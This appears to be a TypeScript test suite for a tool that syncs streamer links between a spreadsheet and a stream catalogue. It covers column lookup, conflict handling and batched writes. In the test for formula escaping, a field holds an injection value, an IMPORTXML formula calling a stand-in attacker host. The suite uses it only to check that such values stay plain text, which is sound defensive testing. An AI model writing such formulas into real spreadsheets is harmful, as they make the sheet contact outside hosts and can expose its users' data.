import { afterEach, describe, expect, it } from 'vitest';
import { Link } from '#shared/model/stream.ts';
import type { SheetPolicy } from './sheet-columns.ts';
import { columnLetters, readLayout } from './sheet-layout.ts';
import { endAll, header, idOf, linkOf, row, setUp, writes } from './test-sheet-sync.ts';

afterEach(endAll);

describe('rows and streams', () => {
  it('[GS3] a row that somebody types becomes a stream; a stream gets a row', async () => {
    const { send, compare, view, tab, cell } = await setUp([
      header,
      row({
        Link: 'twitch.tv/Ann?x=1',
        Source: 'Ann',
        City: 'Portland',
        State: 'OR',
        Notes: 'by the bridge',
      }),
    ]);
    await send({ type: 'add-stream', link: Link.parse(linkOf('bob')), fields: { source: 'Bob' } });
    await send({ type: 'set-stream-status', id: idOf(linkOf('bob')), status: 'live' });
    expect((await compare()).trouble).toBeUndefined();
    expect(view(linkOf('ann'))).toMatchObject({
      source: 'Ann',
      city: 'Portland',
      region: 'OR',
      notes: 'by the bridge',
    });
    expect(cell(linkOf('bob'), 'Source')).toBe('Bob');
    expect(cell(linkOf('bob'), 'Status')).toBe('Live');
    expect(cell(linkOf('bob'), 'Platform')).toBe('Twitch');
    await compare();
    await compare();
    expect(tab().length).toBe(3);
  });

  it('[GS3] a row that somebody deletes is not made again, and its stream stays', async () => {
    const { compare, view, fake, send } = await setUp([header, row({ Link: linkOf('ann') })]);
    await compare();
    await compare();
    fake.tabs.set('Livesheet', [header]);
    await send({ type: 'set-stream-status', id: idOf(linkOf('ann')), status: 'live' });
    await compare();
    expect(fake.tabs.get('Livesheet')).toEqual([header]);
    expect(view(linkOf('ann'))?.status).toBe('live');
  });

  it('[GS1] columns are found by their header, in any order and past Z; without a link column nothing happens', async () => {
    const wide = [
      ...Array.from({ length: 30 }, (_, n) => `Mine ${n}`),
      'STATUS',
      ' link ',
      'Last Live (CST)',
    ];
    const { compare, send, fake, view } = await setUp([
      wide,
      [...Array<string>(31).fill('keep'), linkOf('ann')],
    ]);
    await compare();
    await send({ type: 'set-stream-status', id: idOf(linkOf('ann')), status: 'live' });
    await compare();
    expect(fake.tabs.get('Livesheet')?.[1]?.slice(0, 32)).toEqual([
      ...Array<string>(30).fill('keep'),
      'Live',
      linkOf('ann'),
    ]);
    expect([0, 25, 26, 51, 52, 701, 702].map(columnLetters)).toEqual([
      'A',
      'Z',
      'AA',
      'AZ',
      'BA',
      'ZZ',
      'AAA',
    ]);
    expect(readLayout(['Source', 'Notes'])).toBeUndefined();
    fake.tabs.set('Livesheet', [['Source'], ['Ann']]);
    const before = writes(fake).length;
    expect((await compare()).trouble).toContain('no column called Link');
    expect(writes(fake).length).toBe(before);
    expect(view(linkOf('ann'))).toBeDefined();
  });

  it('[GS2] a row is a stream by what its link means; a link that cannot be read is listed and its row left alone', async () => {
    const twice = [row({ Link: '\u200bhttps://m.twitch.tv/ANN ' }), row({ Link: 'twitch.tv/ann/' })];
    const nonsense = row({ Link: 'ask me', Status: 'Live' });
    const { compare, send, tab, replica } = await setUp([header, ...twice, nonsense]);
    const { problems } = await compare();
    expect(problems).toMatchObject([{ row: 3, text: 'ask me' }]);
    expect(replica.catalogue().streams.size).toBe(1);
    await send({ type: 'set-stream-status', id: idOf(linkOf('ann')), status: 'live' });
    await compare();
    expect(tab().map((cells) => cells[4])).toEqual(['Status', 'Live', 'Live', 'Live']);
    expect(tab()[3]).toEqual(nonsense);
  });
});

describe('what both sides say', () => {
  const both = async (policy: SheetPolicy) => {
    const set = await setUp([header, row({ Link: linkOf('ann'), Notes: 'one', City: 'Portland' })], policy);
    await set.compare();
    await set.compare();
    return set;
  };

  it('[GS4] who alone changed a cell is followed, also when it was emptied', async () => {
    const { type, compare, view, cell, send } = await both({ mode: 'document-first' });
    type(linkOf('ann'), 'City', 'Salem');
    await send({ type: 'edit-stream', id: idOf(linkOf('ann')), changes: { notes: 'two' } });
    await compare();
    expect([view(linkOf('ann'))?.city, cell(linkOf('ann'), 'Notes')]).toEqual(['Salem', 'two']);
    await compare();
    type(linkOf('ann'), 'City', '');
    await compare();
    expect(view(linkOf('ann'))?.city).toBeUndefined();
  });

  it('[GS4] what was changed again before it was compared is no clash', async () => {
    const { type, compare, view, cell, send } = await both({ mode: 'sheet-first' });
    await send({ type: 'edit-stream', id: idOf(linkOf('ann')), changes: { notes: 'two' } });
    await compare();
    await send({ type: 'edit-stream', id: idOf(linkOf('ann')), changes: { notes: 'three' } });
    await compare();
    expect(cell(linkOf('ann'), 'Notes')).toBe('three');
    type(linkOf('ann'), 'Notes', 'four');
    await compare();
    type(linkOf('ann'), 'Notes', 'five');
    await compare();
    expect(view(linkOf('ann'))?.notes).toBe('five');
  });

  it('[GS4] [GS10] where both changed it the mode decides, or the column’s policy, or a person', async () => {
    const clash = async (policy: SheetPolicy) => {
      const { type, compare, view, cell, send } = await both(policy);
      type(linkOf('ann'), 'Notes', 'sheet');
      await send({ type: 'edit-stream', id: idOf(linkOf('ann')), changes: { notes: 'document' } });
      const { conflicts } = await compare();
      return [cell(linkOf('ann'), 'Notes'), view(linkOf('ann'))?.notes, conflicts.length];
    };
    expect(await clash({ mode: 'sheet-first' })).toEqual(['sheet', 'sheet', 0]);
    expect(await clash({ mode: 'document-first' })).toEqual(['document', 'document', 0]);
    expect(await clash({ mode: 'sheet-first', columns: { notes: 'ask' } })).toEqual(['sheet', 'document', 1]);
    expect(await clash({ mode: 'migrate' })).toEqual(['sheet', 'sheet', 0]);
  });

  it('[GS10] migrating writes nothing to the sheet', async () => {
    const { send, compare, fake, view } = await setUp([header, row({ Link: linkOf('ann') })], {
      mode: 'migrate',
    });
    await send({ type: 'add-stream', link: Link.parse(linkOf('bob')) });
    await compare();
    await compare();
    expect(writes(fake)).toEqual([]);
    expect(view(linkOf('ann'))).toBeDefined();
  });

  it('[GS5] only what differs in our columns is written, in few requests; what people filled in stays', async () => {
    const rows = Array.from({ length: 700 }, (_, n) =>
      row({ Link: linkOf(`c${n}x`), 'Added Date': '7/3/2025', 'Embed Link': 'mine', Platform: 'twitch!' }),
    );
    const { compare, send, fake, tab } = await setUp([header, ...rows]);
    await compare();
    await compare();
    expect(writes(fake)).toEqual([]);
    for (let n = 0; n < 700; n += 1)
      await send({ type: 'set-stream-status', id: idOf(linkOf(`c${n}x`)), status: 'offline' });
    await compare();
    expect(writes(fake).length).toBe(3);
    expect(writes(fake).reduce((sum, { cells }) => sum + cells, 0)).toBe(1400);
    expect(tab()[700]).toEqual(
      row({
        Link: linkOf('c699x'),
        'Added Date': '7/3/2025',
        'Embed Link': 'mine',
        Platform: 'twitch!',
        Status: 'Offline',
        'Last Checked (PST)': tab()[700]?.[9] ?? '',
      }),
    );
    expect(fake.requests.length).toBeLessThan(20);
  });

  it('[GS6] what begins with = is text', async () => {
    const { compare, send, cell } = await setUp([header]);
    await send({
      type: 'add-stream',
      link: Link.parse(linkOf('ann')),
      fields: { source: '=IMPORTXML("https://evil.example")', notes: '=1+1' },
    });
    await compare();
    expect(cell(linkOf('ann'), 'Source')).toBe('=IMPORTXML("https://evil.example")');
    await send({ type: 'edit-stream', id: idOf(linkOf('ann')), changes: { notes: '=2+2' } });
    await compare();
    await compare();
    expect(cell(linkOf('ann'), 'Notes')).toBe('=2+2');
  });
});
